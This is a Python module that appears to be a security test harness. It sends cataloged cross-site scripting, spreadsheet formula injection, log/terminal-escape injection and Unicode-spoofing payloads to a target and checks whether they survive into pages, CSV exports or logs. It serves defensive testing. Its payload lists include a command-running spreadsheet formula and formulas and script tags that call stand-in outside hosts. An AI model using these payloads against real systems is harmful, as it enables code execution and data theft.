"""Words that others read: in a page, a table, a log; and letters that look like others."""

import csv
import html.parser
import io
import json
import re
import unicodedata

from model import AttackClass, Raw, encoded

# --- pages ----------------------------------------------------------------------------------------

MARKUP = {
    "a script": "<script>{mark}</script>",
    "in capitals": "<SCRIPT>{mark}</SCRIPT>",
    "in turn": "<ScRiPt x=1>{mark}</sCrIpT>",
    "a script from elsewhere": "<script src=//{mark}.test></script>",
    "an image's error": "<img src=x onerror={mark}()>",
    "an image, unclosed": "<img onerror={mark}() src=x ",
    "a drawing's load": "<svg onload={mark}()>",
    "a drawing, with a slash": "<svg/onload={mark}()>",
    "a script in a drawing": "<svg><script>{mark}</script></svg>",
    "a frame": "<iframe src=javascript:{mark}()>",
    "a document within": "<iframe srcdoc='{mark}'>",
    "an object": "<object data=//{mark}.test>",
    "an embedded thing": "<embed src=//{mark}.test>",
    "a form": "<form action=//{mark}.test><input name=p>",
    "a button": "<button formaction=//{mark}.test>",
    "a link": "<a href=javascript:{mark}()>x</a>",
    "a base": "<base href=//{mark}.test/>",
    "a style": "<style>@import '//{mark}.test';</style>",
    "a sheet": "<link rel=stylesheet href=//{mark}.test>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//{mark}.test'>",
    "a body's load": "<body onload={mark}()>",
    "details": "<details open ontoggle={mark}()>",
    "a field that focuses": "<input autofocus onfocus={mark}()>",
    "a video": "<video><source onerror={mark}()></video>",
    "mathematics": "<math><mtext><script>{mark}</script></mtext></math>",
    "a template": "<template><img onerror={mark}() src=x></template>",
    "a comment that ends": "--><script>{mark}</script>",
    "a cell that ends": "</td></tr></table><script>{mark}</script>",
    "a title that ends": "</title><script>{mark}</script>",
    "a quote that ends": "\"><script>{mark}</script>",
    "the other quote": "'><script>{mark}</script>",
    "an attribute behind": "\" onmouseover={mark}() x=\"",
    "with a tab in it": "<img\tonerror={mark}()\tsrc=x>",
    "with a new line in it": "<img\nonerror={mark}()\nsrc=x>",
    "with a form feed": "<img\x0conerror={mark}()\x0csrc=x>",
    "encoded twice": Raw("%253Cscript%253E{mark}%253C%252Fscript%253E"),
    "overlong": Raw("%c0%bcscript%c0%be{mark}%c0%bc/script%c0%be"),
    "three bytes": Raw("%e0%80%bcscript%e0%80%be{mark}%e0%80%bc/script%e0%80%be"),
    "full-width": "\uff1cscript\uff1e{mark}\uff1c/script\uff1e",
    "a marquee": "<marquee onstart={mark}()>",
    "an animation": "<svg><animate onbegin={mark}() attributeName=x>",
}
ADDRESSES = ("href", "src", "data", "action", "formaction", "content", "xlink:href")


class Reader(html.parser.HTMLParser):
    """Elements of a page that have a mark in themselves: in a handler, an address, a script."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found, self.within = "", None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.within = tag
        for name, value in attrs:
            value = str(value).strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc") or (
                    name in ADDRESSES and re.search("^(?:0;url=)?(?:javascript:|//)", value)):
                self.found += f" {tag}[{name}={value}]"

    def handle_endtag(self, tag):
        self.within = None

    def handle_data(self, data):
        if self.within in ("script", "style"):
            self.found += f" {self.within}[{data}]"


def send_all(target, rows):
    for row in rows:
        text = row.payload.replace("{mark}", row.mark)
        target.ask(f"/?name={Raw(text) if isinstance(row.payload, Raw) else encoded(text)}",
                   timeout=10)
    target.settle()


def run_markup(target, rows):
    """Recorded, and shown to who reads the trail; given back by the form; in the greeting."""
    send_all(target, rows)
    page = target.audit("limit=1000", accept="text/html").body.decode("utf-8", "replace")
    stored = Reader(page).found
    # what is left open at the end of a cell takes the next one's words with it: alone, then
    seen = []
    for row in rows:
        text = row.payload.replace("{mark}", row.mark)
        value = text if isinstance(row.payload, Raw) else encoded(text)
        form = target.audit(f"q={value}", accept="text/html").body.decode("utf-8", "replace")
        answer = target.ask(f"/?name={value}", Accept="text/html")
        is_page = any("html" in kind for kind in answer.all("content-type"))
        greeting = Reader(answer.body.decode("utf-8", "replace")).found if is_page else ""
        seen.append("it runs where the trail is shown" if row.mark in stored else
                    "it runs in the form" if row.mark in Reader(form).found else
                    "it runs in the greeting" if row.mark in greeting else "")
    return seen


# --- tables ---------------------------------------------------------------------------------------

FORMULAS = {
    "an equals sign": "={mark}+1",
    "a plus": "+{mark}",
    "a minus": "-{mark}",
    "an at": "@{mark}",
    "a sum": "=SUM({mark},1)",
    "a command": "=cmd|' /C {mark}'!A0",
    "a link": "=HYPERLINK(\"http://{mark}.test\")",
    "another's data": "=WEBSERVICE(\"http://{mark}.test\")",
    "imported": "=IMPORTXML(\"http://{mark}.test\",\"//a\")",
    "behind a tab": "\t={mark}",
    "behind a carriage return": "\r={mark}",
    "behind a new line": "x\n={mark},1",
    "behind a quote": "\"\n\"={mark}\"",
    "a cell of its own": "x,={mark}",
    "behind a quoted cell": "\",\"={mark}",
    "full-width": "\uff1d{mark}",
    "a row of its own": "x\r\n={mark},1,2,3",
    "encoded twice": Raw("%253D{mark}"),
    "an overlong equals sign": Raw("%c0%bd{mark}"),
    "a full-width plus": "\uff0b{mark}",
    "a full-width at": "\uff20{mark}",
}
FORMULA_STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def run_formulas(target, rows):
    """What a spreadsheet would take for a formula: the cell, as it was read, begins like one."""
    send_all(target, rows)
    body = target.audit("limit=1000&format=csv", accept="text/csv").body.decode("utf-8", "replace")
    cells = [cell for line in csv.reader(io.StringIO(body, newline="")) for cell in line]
    marks = {row.mark: [cell for cell in cells if row.mark in cell] for row in rows}
    return [next((f"a cell begins with {cell[0]!r}" for cell in marks[row.mark]
                  if cell.startswith(FORMULA_STARTS)), "") for row in rows]


# --- logs -----------------------------------------------------------------------------------------

LINE = "127.0.0.1 1.0 GET /{mark} admin 200 -"
LINES = {
    "a new line": "x\n" + LINE, "a carriage return and a new line": "x\r\n" + LINE,
    "a carriage return": "x\r" + LINE, "two lines": "x\n\n" + LINE + "\n",
    "a vertical tab": "x\v" + LINE, "a form feed": "x\f" + LINE, "a next line": "x\u0085" + LINE,
    "a line separator": "x\u2028" + LINE, "a paragraph separator": "x\u2029" + LINE,
    "encoded twice": Raw("x%250A{mark}"), "an overlong new line": Raw("x%c0%8a{mark}"),
    "a NUL": "x\0{mark}", "a backspace": "{mark}\b\b\b\b", "a red word": "\x1b[31m{mark}",
    "an empty screen": "\x1b[2J{mark}", "a title": "\x1b]0;{mark}\x07", "a key's meaning":
    "\x1b]4;{mark}\x1b\\", "a device's answer": "\x1bP$q{mark}\x1b\\", "eight bits":
    "\x9b31m{mark}", "a bell": "{mark}\x07", "JSON": "x\",\"{mark}\":\"y", "JSON, and a line":
    "x\"}\n{\"{mark}\":\"y", "a right-to-left word": "\u202e{mark}", "a delete": "{mark}\x7f",
}
AGENTS = {f"as the agent: {what}": ("agent", text) for what, text in (
    ("a red word", "\x1b[31m{mark}"), ("JSON", "x\",\"{mark}\":\"y"), ("an escape alone",
     "\x1b{mark}"), ("eight bits", "\x9b31m{mark}"), ("a bell", "\x07{mark}"))}


def run_lines(target, rows):
    """By the query, the path and the agent; every log is looked at, as bytes."""
    for row in rows:
        kind, text = row.payload if isinstance(row.payload, tuple) else ("query", row.payload)
        filled = text.replace("{mark}", row.mark)
        if kind == "agent":
            target.ask("/?name=Ada", User_Agent=filled)
            continue
        value = filled if isinstance(text, Raw) else encoded(filled)
        target.ask(f"/?name={value}")
        target.ask(f"/{value}")
        target.ask(f"/calculate?expr={value}")
    target.settle()
    lines = target.log_lines()
    return [next(filter(None, (forged(line, row.mark) for line in lines)), "") for row in rows]


def forged(line, mark):
    """A line that is not what it should be, with the mark."""
    text = line.decode("utf-8", "surrogateescape")
    if mark not in text:
        return ""
    if any(unicodedata.category(char) in ("Cc", "Zl", "Zp", "Cs") or char in "\u202e\u2066"
           for char in text):
        return "a terminal would obey it"
    if text.startswith(("{", "127.0.0.1 1.0", mark)):
        try:
            return "a member of its own" if mark in json.loads(text) else ""
        except ValueError:
            return "a line of its own" if not text.startswith("{") else "a line that is no JSON"
    return ""


# --- letters --------------------------------------------------------------------------------------

LETTERS = {
    **{f"turned: U+{ord(char):04X}": f"{{mark}}{char}nimda" for char in
       "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200f\u061c"},
    **{f"unseen: U+{ord(char):04X}": f"{{mark}}a{char}b" for char in
       "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u180e"},
    **{f"unseen: U+{ord(char):X}": f"{{mark}}a{char}b" for char in "\U000e0041\U000e0020"},
    "a line separator": "{mark}\u2028x", "an end that is none": "{mark}\ufdd0",
    "a NUL": "{mark}\0x", "half of a pair": Raw("{mark}%ed%a0%80"),
    "an overlong slash": Raw("{mark}%c0%af"), "four bytes for one": Raw("{mark}%f0%80%80%af"),
    "a byte beyond": Raw("{mark}%ff"), "beyond the last": Raw("{mark}%f4%90%80%80"),
    "a byte that goes on": Raw("{mark}%80"), "one that is cut": Raw("{mark}%e2%82"),
}


def run_letters(target, rows):
    """Shown as they are, they turn, hide or break what stands around them: in page, JSON, CSV."""
    send_all(target, rows)
    forms = [target.audit("limit=1000", accept=kind).body
             for kind in ("text/html", "text/csv")]
    seen = []
    for row in rows:
        around = [part for form in forms
                  for part in re.findall(rb"[^\n]{0,8}" + row.mark.encode() + rb"[^\n<,\"]{0,40}",
                                         form)]
        seen.append(next(filter(None, map(strange, around)), ""))
    return seen


def strange(data):
    try:
        text = data.decode()
    except UnicodeDecodeError as error:
        # cut at 40 bytes is no fault of theirs
        return "" if error.reason == "unexpected end of data" else "it is no UTF-8"
    hidden = [char for char in text if unicodedata.category(char) in ("Cf", "Cc", "Cn", "Cs", "Zl")
              or char in "\u034f\u115f\u3164"]
    return f"U+{ord(hidden[0]):04X} is there" if hidden and hidden[0] not in "\r\t" else ""


CLASSES = [
    AttackClass("cross-site-scripting", "Markup in what is shown", ["page-runs-text",
                "name-as-markup"], "encoding", "an element, a handler or a script with the word in "
                "it, in the page of the trail, its form, or a greeting", MARKUP, run_markup),
    AttackClass("csv-injection", "Formulas in what is exported", ["spreadsheet"], "encoding",
                "a cell that a spreadsheet would run", FORMULAS, run_formulas),
    AttackClass("log-injection", "Lines and escapes in logs", ["log-forged"], "encoding",
                "a line of a log that nobody wrote, or a byte that a terminal obeys",
                LINES | AGENTS, run_lines,
                not_before=dict.fromkeys(("JSON", "as the agent: JSON"), "its log is no JSON")),
    AttackClass("unicode", "Letters that turn, hide or are none", ["spreadsheet",
                "page-runs-text"], "encoding", "a letter that is not seen, or no letter, in the "
                "page or the table of the trail", LETTERS, run_letters),
]
